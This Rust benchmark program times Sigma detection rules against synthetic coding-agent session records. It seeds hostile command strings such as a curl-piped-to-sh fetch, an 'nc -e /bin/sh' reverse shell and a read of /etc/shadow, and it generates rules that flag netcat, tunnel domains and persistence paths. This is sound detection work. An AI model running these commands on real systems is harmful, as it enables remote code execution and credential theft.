//! How long Sigma rules take over a long session: the rules over records shaped like a coding
//! agent's (programs run with their forks, file calls, connects, lookups; one in fifty an
//! attack). Not a test: a measurement, for docs/triage.md.
//!
//! ```text
//! cargo run --release -p warden-triage --example sigma_bench [RULES_DIR] [RECORDS]
//! ```
//!
//! Without RULES_DIR it writes 100 rules of its own, modeled on common Linux ones; RECORDS is
//! 100000 unless given.
use std::{path::Path, time::Instant};

use warden_records::events::Record;
use warden_triage::SigmaRules;

const BENIGN: &[&str] = &[
    "cargo build --release",
    "git status",
    "git commit -m fix",
    "sh -c cargo test 2>&1 | tail -5",
    "rustc --crate-name app src/main.rs",
    "ls -la",
    "grep -rn TODO src",
    "curl -sSf https://crates.io/api/v1/crates/serde",
    "node /usr/lib/node_modules/npm/bin/npm-cli.js install",
    "python3 -m pytest -q",
    "cat README.md",
    "sed -n 1,20p src/lib.rs",
];

const ATTACKS: &[&str] = &[
    "sh -c curl -s https://x.test/i | sh",
    "nc -e /bin/sh 10.0.0.1 4444",
    "bash -c echo aGk= | base64 -d | bash",
    "chmod +x /tmp/payload",
    "crontab -l",
    "whoami",
    "wget http://x.test/a -O /tmp/a",
    "cat /etc/shadow",
    "iptables -F",
];

const FILES: &[&str] = &[
    "/home/u/src/app/target/debug/deps/app.o",
    "/home/u/src/app/src/main.rs",
    "/home/u/.cargo/registry/index/x",
    "/tmp/rustc/tmp.rlib",
    "/home/u/.ssh/authorized_keys",
    "/etc/cron.d/job",
    "/home/u/.bashrc",
];

const HOSTS: &[(&str, &str, u16)] = &[
    ("github.com", "140.82.112.3", 443),
    ("crates.io", "151.101.1.137", 443),
    ("index.crates.io", "18.65.3.80", 443),
    ("x.ngrok-free.app", "3.3.3.3", 4444),
];

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let own = tempfile::tempdir().expect("a temporary directory");
    let dir = match args.first() {
        Some(d) => Path::new(d).to_path_buf(),
        None => {
            write_rules(own.path());
            own.path().to_path_buf()
        }
    };
    let n: usize = args
        .get(1)
        .map(|s| s.parse().expect("RECORDS is a number"))
        .unwrap_or(100_000);

    let t = Instant::now();
    let rules = SigmaRules::load(&dir).unwrap_or_else(|e| {
        eprintln!("{e}");
        std::process::exit(1)
    });
    let load = t.elapsed();
    let records = session(n);
    let t = Instant::now();
    let findings = rules.evaluate(&records);
    let evaluate = t.elapsed();

    println!(
        "{} rules evaluated, {} skipped, loaded in {:.1?}",
        rules.rule_count(),
        rules.skipped().len(),
        load
    );
    println!(
        "{} records evaluated in {:.2?} ({:.2} µs a record): {} findings",
        records.len(),
        evaluate,
        evaluate.as_secs_f64() * 1e6 / records.len() as f64,
        findings.len()
    );
    for f in &findings {
        println!("  {:8} {:6} {}", f.severity.as_str(), f.count, f.detection);
    }
}

/// 100 rules: programs by their command line and image, files written, ports, names looked up.
fn write_rules(dir: &Path) {
    let commands = [
        "whoami",
        "nmap ",
        "base64 -d",
        "chmod +x /tmp",
        "crontab -",
        "history -c",
        "iptables -F",
        "ssh-keygen",
        "/etc/shadow",
        "| sh",
        "| bash",
        "nc -e",
        "socat ",
        "insmod ",
        "setcap ",
        "useradd ",
        "passwd ",
        "tcpdump ",
        "xxd -r",
        "python -c",
    ];
    let images = [
        "/nc", "/ncat", "/socat", "/nmap", "/masscan", "/tcpdump", "/wget", "/telnet", "/insmod",
        "/setcap",
    ];
    let files = [
        "/.ssh/authorized_keys",
        "/.bashrc",
        "/.profile",
        "/.zshrc",
        "/etc/cron.d/",
        "/etc/sudoers",
        "/etc/systemd/system/",
        "/.config/autostart/",
        "/etc/ld.so.preload",
        "/.git/hooks/",
    ];
    let ports = [4444, 1337, 31337, 6667, 9001];
    let names = [
        ".ngrok-free.app",
        ".trycloudflare.com",
        ".serveo.net",
        ".pastebin.com",
        ".onion",
    ];
    let mut detection = Vec::new();
    for i in 0..100 {
        let (category, selection) = match i % 5 {
            0 | 1 => (
                "process_creation",
                format!(
                    "CommandLine|contains: '{}'",
                    commands[(i / 5 * 2 + i % 5) % commands.len()]
                ),
            ),
            2 => (
                "process_creation",
                format!(
                    "Image|endswith: '{}'\n        ParentImage|endswith: '/sh'",
                    images[i / 5 % images.len()]
                ),
            ),
            3 => (
                "file_event",
                format!("TargetFilename|contains: '{}'", files[i / 5 % files.len()]),
            ),
            _ if i % 2 == 0 => (
                "network_connection",
                format!("DestinationPort: {}", ports[i / 10 % ports.len()]),
            ),
            _ => (
                "dns_query",
                format!("QueryName|endswith: '{}'", names[i / 10 % names.len()]),
            ),
        };
        detection.push((category, selection));
    }
    for (i, (category, selection)) in detection.iter().enumerate() {
        let text = format!(
            "title: Rule {i}\nid: rule-{i}\nlogsource:\n    product: linux\n    category: {category}\ndetection:\n    selection:\n        {selection}\n    filter:\n        Image|startswith: '/opt/trusted/'\n    condition: selection and not filter\nlevel: medium\ntags:\n    - attack.t1059\n"
        );
        std::fs::write(dir.join(format!("rule_{i}.yml")), text).expect("a rule written");
    }
}

/// `n` records after session.start, from a fixed seed.
fn session(n: usize) -> Vec<Record> {
    let mut seed: u64 = 7;
    let mut next = |below: usize| {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (seed >> 33) as usize % below
    };
    let start = r#""kind":"session.start","schema":1,"warden_version":"0","command":["agent"],"user":"u","uid":1000,"gid":1000,"cgroup":"/sys/fs/cgroup/warden/s1","cgroup_id":1,"supervisor_pid":1,"hostname":"h","kernel_programs":[],"settings_files":[],"layers":[],"missing_layers":[],"vcs_read_only":[],"vcs_pinned":[],"workspace":"/home/u/src/app","home":"/home/u""#;
    let mut lines = vec![start.to_string()];
    // Live processes and their parents.
    let mut pids: Vec<(u32, u32)> = vec![(100, 1)];
    while lines.len() <= n {
        let (pid, _) = pids[next(pids.len())];
        match next(20) {
            // A program run: a fork, then its exec.
            0..=7 => {
                let child = 100 + lines.len() as u32;
                let command = if next(50) == 0 {
                    ATTACKS[next(ATTACKS.len())]
                } else {
                    BENIGN[next(BENIGN.len())]
                };
                let argv: Vec<&str> = match command.strip_prefix("sh -c ") {
                    Some(script) => vec!["sh", "-c", script],
                    None => match command.strip_prefix("bash -c ") {
                        Some(script) => vec!["bash", "-c", script],
                        None => command.split(' ').collect(),
                    },
                };
                lines.push(format!(r#""kind":"fork","pid":{child},"ppid":{pid}"#));
                lines.push(format!(
                    r#""kind":"exec","pid":{child},"ppid":{pid},"uid":1000,"gid":1000,"cgroup_id":1,"filename":"/usr/bin/{}","argv":{},"argv_bytes":1"#,
                    argv[0],
                    serde_json::to_string(&argv).expect("JSON")
                ));
                pids.push((child, pid));
            }
            8..=15 => {
                let path = if next(50) == 0 {
                    FILES[next(FILES.len())]
                } else {
                    FILES[next(4)]
                };
                let flags = ["O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC"][next(2)];
                lines.push(format!(
                    r#""kind":"file.open","pid":{pid},"path":"{path}","flags":"{flags}","result":"ok","count":{}"#,
                    1 + next(3)
                ));
            }
            16 | 17 => {
                let (_, address, port) = HOSTS[next(HOSTS.len())];
                lines.push(format!(
                    r#""kind":"network.connect","pid":{pid},"uid":1000,"transport":"tcp","address":"{address}","port":{port},"verdict":"allow","rule":"allowed_domains=*""#
                ));
            }
            18 => {
                let (name, address, _) = HOSTS[next(HOSTS.len())];
                lines.push(format!(
                    r#""kind":"dns.query","name":"{name}","qtype":"A","transport":"udp","client":"127.0.0.1:1","verdict":"allow","rule":"allowed_domains=*","rcode":"NoError","answers":["{address}"],"duration_us":1"#
                ));
            }
            _ if pids.len() > 1 => {
                let i = next(pids.len() - 1) + 1;
                let (pid, ppid) = pids.swap_remove(i);
                lines.push(format!(
                    r#""kind":"exit","pid":{pid},"ppid":{ppid},"exit_code":0"#
                ));
            }
            _ => {}
        }
    }
    lines.truncate(n + 1);
    lines
        .iter()
        .enumerate()
        .map(|(seq, fields)| {
            let line = format!(
                r#"{{"session":"s1","seq":{seq},"time":"2026-12-07T00:00:00.000000000Z","boot_ns":{seq},{fields}}}"#
            );
            serde_json::from_str(&line).unwrap_or_else(|e| panic!("{line}: {e}"))
        })
        .collect()
}
